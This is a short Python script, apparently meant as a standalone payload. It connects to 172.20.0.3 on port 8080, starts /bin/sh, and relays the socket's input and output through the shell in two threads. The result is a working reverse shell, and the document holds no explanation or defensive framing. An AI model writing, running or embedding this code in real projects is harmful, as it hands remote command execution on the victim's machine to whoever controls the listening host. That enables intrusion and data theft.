import socket
import subprocess
import threading

def s2p(s, p):
    while True:
        data = s.recv(1024)
        if len(data) > 0:
            p.stdin.write(data)
            p.stdin.flush()

def p2s(s, p):
    while True:
        s.send(p.stdout.read(1))

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("172.20.0.3", 8080))
p = subprocess.Popen(["/bin/sh"], stdout=subprocess.PIPE,
                     stderr=subprocess.STDOUT, stdin=subprocess.PIPE)
threading.Thread(target=s2p, args=[s, p], daemon=True).start()
threading.Thread(target=p2s, args=[s, p], daemon=True).start()
p.wait()
